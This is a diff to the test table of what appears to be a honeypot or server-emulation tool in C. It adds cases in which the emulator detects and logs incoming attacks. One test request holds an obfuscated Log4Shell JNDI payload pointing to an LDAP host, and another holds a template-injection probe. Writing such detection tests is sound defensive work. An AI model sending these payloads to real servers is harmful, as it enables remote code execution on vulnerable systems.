@@ -99,6 +99,7 @@ static struct turn begin_turn(struct session *s, struct http *http)
 		.persona = p,
 		.dialect = dialect_of(p->http.server),
 		.request = &http->request,
+		.head = {http->head, http->head_len},
 		.body = &http->body,
 		.login_mark = &http->login_mark,
 	};
@@ -302,6 +303,15 @@ static const struct exchange http_exchanges[] = {
 	{"two lengths that differ",
 	 BYTES("POST / HTTP/1.0\r\nContent-Length: 3\r\nContent-Length: 4\r\n\r\nabc"), BYTES(BOA_400),
 	 "{\"status\":400}"},
+	{"a lookup whose letters are hidden, in a field that nobody reads",
+	 BYTES("GET /style.css HTTP/1.0\r\nX-Api-Version: ${${lower:j}n${::-d}i:ldap://198.51.100.9:1389/a}\r\n\r\n"),
+	 BYTES(CSS_HEAD("HTTP/1.0", "Connection: close\r\n") CSS),
+	 "{\"kind\":\"request.seen\",\"http.lookup\":\"jndi:ldap://198.51.100.9:1389/a\"}\n"
+	 "{\"kind\":\"file.captured\",\"file.url\":\"ldap://198.51.100.9:1389/a\",\"file.how\":\"jndi\"}"},
+	{"an expression for a template engine",
+	 BYTES("GET /style.css?name=%7B%7B7*7%7D%7D HTTP/1.0\r\n\r\n"),
+	 BYTES(CSS_HEAD("HTTP/1.0", "Connection: close\r\n") CSS),
+	 "{\"kind\":\"request.seen\",\"http.template\":\"{{7*7}}\"}"},
 	{"a redirect",
 	 BYTES("GET http://device/index.htm HTTP/1.0\r\n\r\n"),
 	 BYTES("HTTP/1.0 302 Moved Temporarily\r\n" BOA_CLOSE BOA_HTML "Location: /admin/login.asp\r\n\r\n"
